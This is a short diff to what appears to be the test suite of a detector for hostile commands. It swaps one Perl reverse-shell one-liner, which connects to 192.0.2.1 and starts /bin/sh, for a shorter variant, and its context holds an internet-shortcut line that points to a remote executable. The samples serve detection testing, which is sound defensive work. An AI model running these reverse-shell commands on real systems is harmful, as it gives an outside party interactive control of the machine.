@@ -193,10 +193,7 @@ def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[st
             {"node_reverse_shell"},
         ),
         (
-            (
-                """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(1,"""
-                + """inet_aton("192.0.2.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'""",
-            ),
+            ("perl -e 'socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,$a))){exec(\"/bin/sh -i\");}'",),
             {"reverse_shell_one_liner"},
         ),
         (("[InternetShortcut]", "URL=file://45.0.2.1/share/a.exe"), {"internet_shortcut_to_a_program"}),
